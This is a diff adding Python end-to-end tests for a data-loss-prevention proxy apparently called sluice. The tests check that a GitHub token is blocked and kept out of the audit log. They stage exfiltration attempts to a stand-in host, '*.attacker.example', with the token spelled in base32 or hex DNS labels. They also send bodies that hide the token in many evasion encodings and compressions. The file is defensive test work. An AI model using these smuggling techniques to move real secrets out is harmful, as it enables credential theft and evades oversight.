@@ -1,0 +1,351 @@
+#!/usr/bin/env python3
+"""End-to-end tests for the holes a red-team pass found after issue 25 was built: each
+one let a checksum-valid GitHub token leave through sluice or stay in its audit log.
+
+- A CONNECT or absolute-form request refused by policy (403 `policy_deny`) to a host whose
+  labels spell the token in base32 or hex: no audit record may hold the encoded token.
+- Bodies that carry the token in base32, ascii85, UTF-16/UTF-32, bare quoted-printable,
+  byte lists, one separator between characters, uuencode, ROT13 or reversed: 403
+  `dlp_finding`, nothing at the origin; `sluice scan` finds the base32 form in a file.
+- Compressed bodies sent without Content-Encoding: bzip2 (one stream, concatenated
+  streams) and raw DEFLATE: 403 `dlp_finding`; random binary is forwarded.
+- The token with its prefix in capitals (`GHP_...`) or without it (the 36 characters
+  after `ghp_`, checksum-valid): 403 `dlp_finding`; a look-alike whose checksum does not
+  verify is forwarded.
+
+Run by ctest (tests/e2e/CMakeLists.txt, SLUICE_BIN set) or by hand:
+  SLUICE_BIN=build/sluice python3 tests/e2e/test_red_team_encodings.py -v
+
+One `sluice run` with one listener (identity `agent`): `*.attacker.example` is denied by
+policy, the TLS origin from test_proxy.py (which records every complete request) is
+allowed and inspected with every built-in detector.
+"""
+
+import base64
+import binascii
+import bz2
+import codecs
+import http.client
+import json
+import os
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+import unittest
+import zlib
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, HERE)
+import test_proxy as tp  # noqa: E402  (certificates, recording origins, token maker)
+import test_large_bodies as lb  # noqa: E402  (curl upload helpers)
+
+START_TIMEOUT_S = float(os.environ.get("SLUICE_E2E_START_TIMEOUT", "120"))
+TIMEOUT_S = 30
+
+
+class U:
+    tmp = None
+    origin = None
+    proc = None
+    log = None
+    port = None
+    audit_path = None
+    sluice_ca = None
+    tokens = []  # every token sent, for the audit check
+
+
+def setUpModule():
+    path = os.environ.get("SLUICE_BIN")
+    if not path:
+        raise unittest.SkipTest("SLUICE_BIN is not set (ctest sets it to the built sluice)")
+    U.tmp = tempfile.mkdtemp(prefix="sluice-red-team-")
+    tp.make_certificates(U.tmp)
+    U.origin = tp.recording_origin("tls", os.path.join(U.tmp, "origin.pem"),
+                                   os.path.join(U.tmp, "origin.key"))
+    U.port = tp.free_port()
+    data_dir = os.path.join(U.tmp, "data")
+    U.audit_path = os.path.join(U.tmp, "audit.jsonl")
+    config = os.path.join(U.tmp, "sluice.yaml")
+    with open(config, "w") as f:
+        f.write(f"""version: 1
+data_dir: {data_dir}
+listeners:
+  - address: 127.0.0.1:{U.port}
+    identity: agent
+ca: {{cert: ca.pem, key: ca.key}}
+upstream:
+  ca_file: {os.path.join(U.tmp, "test-ca.pem")}
+  connect_timeout: 5s
+identities:
+  - name: agent
+policies:
+  - identity: agent
+    rules:
+      - hosts: ["*.attacker.example"]
+        action: deny
+      - hosts: ["localhost"]
+        ports: [{U.origin.port}]
+        action: allow
+    dlp:
+      detectors: [all]
+    private_destinations: [127.0.0.1/32]
+admin: {{address: "127.0.0.1:{tp.free_port()}", token_file: admin.token}}
+metrics: {{address: "127.0.0.1:{tp.free_port()}"}}
+audit: {{path: {U.audit_path}, fsync: always}}
+""")
+    U.log = open(os.path.join(U.tmp, "sluice.log"), "wb")
+    U.proc = subprocess.Popen([path, "run", "--config", config], stdout=U.log,
+                              stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
+                              env=tp.client_env())
+    if not tp.wait_for_port(U.port, U.proc, START_TIMEOUT_S):
+        tearDownModule()
+        raise RuntimeError("sluice did not start")
+    U.sluice_ca = os.path.join(data_dir, "ca.pem")
+    lb.B.tmp, lb.B.origin, lb.B.ports, lb.B.sluice_ca = U.tmp, U.origin, {"agent": U.port}, \
+        U.sluice_ca
+    lb.B.audit_path = U.audit_path
+
+
+def tearDownModule():
+    tp.stop_run(U.proc, (U.origin,), (U.log,), U.tmp)
+
+
+def fresh_token():
+    t = tp.github_classic_token()
+    U.tokens.append(t)
+    return t
+
+
+def b32(data, lower=False):
+    """RFC 4648 section 6 base32 without padding (a DNS label cannot hold '=')."""
+    out = base64.b32encode(data).decode().rstrip("=")
+    return out.lower() if lower else out
+
+
+def labels(encoded, width):
+    """`encoded` cut into DNS labels of `width` characters (RFC 1035: at most 63)."""
+    return ".".join(encoded[i:i + width] for i in range(0, len(encoded), width))
+
+
+def raw_request(head):
+    """Sends one request head to sluice; returns (status, headers, body)."""
+    sock = socket.create_connection(("127.0.0.1", U.port), timeout=TIMEOUT_S)
+    try:
+        sock.sendall(head)
+        method = head.split(b" ", 1)[0].decode()
+        resp = http.client.HTTPResponse(sock, method=method)
+        resp.begin()
+        return resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read()
+    finally:
+        sock.close()
+
+
+def audit_records_for(flow):
+    """The audit records of `flow` (polled: the record is written before the answer, but
+    the file is read by another process)."""
+    deadline = time.monotonic() + 10
+    while time.monotonic() < deadline:
+        with open(U.audit_path) as f:
+            hits = [json.loads(line) for line in f if flow in line]
+        if hits:
+            return hits
+        time.sleep(0.05)
+    return []
+
+
+def audit_bytes():
+    with open(U.audit_path, "rb") as f:
+        return f.read()
+
+
+class audit_host_test(unittest.TestCase):
+    """Item 1: a host refused by policy is recorded without the secret its labels spell."""
+
+    def refuse(self, head):
+        status, headers, body = raw_request(head)
+        self.assertEqual(status, 403, body[:300])
+        self.assertEqual(json.loads(body)["reason"], "policy_deny", body[:300])
+        flow = headers.get("x-sluice-flow")
+        self.assertTrue(flow, headers)
+        records = audit_records_for(flow)
+        self.assertTrue(records, "no audit record for flow %s" % flow)
+        return records
+
+    def hosts(self, t):
+        """Hosts spelling `t`: base32 (upper, lower), base32 in short labels, hex."""
+        tb = t.encode()
+        return {
+            "base32": (labels(b32(tb), 40) + ".attacker.example", b32(tb)),
+            "base32-lower": (labels(b32(tb, True), 63) + ".attacker.example", b32(tb, True)),
+            "base32-short-labels": (labels(b32(tb), 13) + ".attacker.example",
+                                    b32(tb).replace(".", "")),
+            "hex": (labels(tb.hex(), 40) + ".attacker.example", tb.hex()),
+        }
+
+    def assert_not_recorded(self, records, encoded):
+        text = json.dumps(records)
+        # Any 16 consecutive characters of the encoding (labels are cut anywhere).
+        for i in range(0, len(encoded) - 16, 4):
+            self.assertNotIn(encoded[i:i + 16], text, records)
+
+    def test_connect_refused_by_policy_records_no_encoded_token(self):
+        for kind, (host, encoded) in self.hosts(fresh_token()).items():
+            with self.subTest(kind):
+                authority = ("%s:443" % host).encode()
+                records = self.refuse(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" %
+                                      (authority, authority))
+                self.assert_not_recorded(records, encoded)
+
+    def test_absolute_form_refused_by_policy_records_no_encoded_token(self):
+        for kind, (host, encoded) in self.hosts(fresh_token()).items():
+            with self.subTest(kind):
+                records = self.refuse(b"GET http://%s/x?q=1 HTTP/1.1\r\nHost: %s\r\n"
+                                      b"Connection: close\r\n\r\n" % (host.encode(),
+                                                                      host.encode()))
+                self.assert_not_recorded(records, encoded)
+
+
+def encodings(t):
+    """The token in every body encoding the red-team pass forwarded (Python's codecs)."""
+    tb = t.encode()
+    return {
+        "base32": b'{"k": "%s"}' % base64.b32encode(tb),
+        "base32-lower": b"k=%s\n" % base64.b32encode(tb).lower().rstrip(b"="),
+        "ascii85": base64.a85encode(tb, adobe=True),
+        "utf16le": ('{"k": "%s"}' % t).encode("utf-16-le"),
+        "utf16be": ('{"k": "%s"}' % t).encode("utf-16-be"),
+        "utf32": ('{"k": "%s"}' % t).encode("utf-32"),
+        "qp-soft-break": b"key: " + tb[:20] + b"=\r\n" + tb[20:] + b"\r\n",
+        "qp-every-byte": b"key=" + b"".join(b"=%02X" % c for c in tb),
+        "bytes-hex": b",".join(b"0x%02x" % c for c in tb),
+        "bytes-decimal": b"[" + b", ".join(b"%d" % c for c in tb) + b"]",
+        "bytes-space": b" ".join(b"%d" % c for c in tb),
+        "bytes-escaped": b" ".join(b"\\x%02x" % c for c in tb),
+        "spaced": b"key: " + b" ".join(bytes([c]) for c in tb),
+        "dashed": b"key: " + b"-".join(bytes([c]) for c in tb),
+        "uuencode": b"begin 644 key.txt\n" + binascii.b2a_uu(tb) + b"`\nend\n",
+        "rot13": b"token: " + codecs.encode(t, "rot13").encode(),
+        "reversed": ("my token is %s thanks" % t)[::-1].encode(),
+    }
+
+
+class body_encodings_test(unittest.TestCase):
+    """Item 2: each encoding of a checksum-valid token in a body is refused."""
+
+    def test_each_encoding_is_refused_and_nothing_reaches_the_origin(self):
+        for kind, body in encodings(fresh_token()).items():
+            with self.subTest(kind):
+                path = "/enc/%s/%s" % (kind, tp.marker())
+                code, answer = lb.upload("agent", path, body)
+                self.assertEqual(code, "403", (kind, answer[:300]))
+                doc = json.loads(answer)
+                self.assertEqual(doc["reason"], "dlp_finding", kind)
+                self.assertIn("github-pat-classic", doc["rules"], kind)
+                self.assertEqual(lb.origin_got(path), [], "%s reached the origin" % kind)
+
+    def test_a_clean_body_in_the_same_encodings_is_forwarded(self):
+        words = "hello world, nothing secret in here at all"
+        for kind, body in encodings(words).items():
+            with self.subTest(kind):
+                path = "/clean/%s/%s" % (kind, tp.marker())
+                code, answer = lb.upload("agent", path, body)
+                self.assertEqual(code, "200", (kind, answer[:300]))
+                self.assertEqual(len(lb.origin_got(path)), 1, kind)
+
+    def test_sluice_scan_finds_a_base32_token_in_a_file(self):
+        t = fresh_token()
+        path = os.path.join(U.tmp, "b32.txt")
+        with open(path, "wb") as f:
+            f.write(b"token = %s\n" % base64.b32encode(t.encode()))
+        r = subprocess.run([os.environ["SLUICE_BIN"], "scan", "--format", "jsonl", path],
+                           capture_output=True, timeout=START_TIMEOUT_S)
+        self.assertEqual(r.returncode, 1, r.stderr)
+        finding = json.loads(r.stdout.splitlines()[0])
+        self.assertEqual(finding["rule"], "github-pat-classic")
+        self.assertEqual(finding["variant"], "base32")
+
+
+def raw_deflate(data):
+    """RFC 1951 DEFLATE without the zlib header and trailer."""
+    c = zlib.compressobj(9, zlib.DEFLATED, -15)
+    return c.compress(data) + c.flush()
+
+
+class compressed_body_test(unittest.TestCase):
+    """Item 3: bzip2 and raw DEFLATE bodies without Content-Encoding are opened."""
+
+    def test_bzip2_and_raw_deflate_bodies_are_refused(self):
+        filler = b"".join(b"%d event status ok\n" % i for i in range(3000))
+        for kind, make in (("bzip2", bz2.compress),
+                           ("bzip2-concatenated", lambda d: bz2.compress(filler) +
+                            bz2.compress(d)),
+                           ("raw-deflate", raw_deflate)):
+            with self.subTest(kind):
+                t = fresh_token().encode()
+                body = make(filler[:20000] + b"key=" + t + b"\n" + filler[20000:])
+                self.assertNotIn(t, body)
+                path = "/compressed/%s/%s" % (kind, tp.marker())
+                code, answer = lb.upload("agent", path, body)
+                self.assertEqual(code, "403", (kind, answer[:300]))
+                self.assertEqual(json.loads(answer)["reason"], "dlp_finding", kind)
+                self.assertEqual(lb.origin_got(path), [], "%s reached the origin" % kind)
+
+    def test_random_binary_is_forwarded(self):
+        body = os.urandom(64 * 1024)
+        path = "/binary/%s" % tp.marker()
+        code, answer = lb.upload("agent", path, body)
+        self.assertEqual(code, "200", answer[:300])
+        self.assertEqual(len(lb.origin_got(path)), 1)
+
+
+class token_shape_test(unittest.TestCase):
+    """Item 4: the prefix in capitals, and the checksum-valid body without its prefix."""
+
+    def refused(self, body, rule):
+        path = "/shape/%s" % tp.marker()
+        code, answer = lb.upload("agent", path, body)
+        self.assertEqual(code, "403", answer[:300])
+        doc = json.loads(answer)
+        self.assertEqual(doc["reason"], "dlp_finding")
+        self.assertIn(rule, doc["rules"])
+        self.assertEqual(lb.origin_got(path), [], "%r reached the origin" % body[:60])
+
+    def test_prefix_in_capitals_is_refused(self):
+        t = fresh_token()
+        self.refused(b'{"k": "GHP_%s"}' % t[4:].encode(), "github-token-any-case")
+        t = fresh_token()
+        self.refused(b"token=Ghp_%s" % t[4:].encode(), "github-token-any-case")
+
+    def test_token_without_its_prefix_is_refused(self):
+        t = fresh_token()
+        self.refused(b'{"k": "%s"}' % t[4:].encode(), "github-pat-classic")
+
+    def test_look_alikes_whose_checksum_fails_are_forwarded(self):
+        t = fresh_token()
+        body = t[4:-1] + ("A" if t[-1] != "A" else "B")
+        for text in (b"GHP_" + body.encode(), b'{"k": "%s"}' % body.encode()):
+            path = "/shape-clean/%s" % tp.marker()
+            code, answer = lb.upload("agent", path, text)
+            self.assertEqual(code, "200", answer[:300])
+            self.assertEqual(len(lb.origin_got(path)), 1)
+
+
+class zz_audit_test(unittest.TestCase):
+    """Last: over everything this module sent, the audit holds no token in any form."""
+
+    def test_audit_holds_no_secret(self):
+        data = audit_bytes()
+        for t in U.tokens:
+            tb = t.encode()
+            for form in (tb, tb.hex().encode(), b32(tb).encode(), b32(tb, True).encode()):
+                self.assertNotIn(form[:24], data)
+        r = subprocess.run([os.environ["SLUICE_BIN"], "scan", "--format", "jsonl",
+                            U.audit_path], capture_output=True, timeout=START_TIMEOUT_S)
+        self.assertEqual(r.returncode, 0, "sluice scan found a secret in the audit: %s" %
+                         r.stdout[:2000])
+
+
+if __name__ == "__main__":
+    unittest.main()
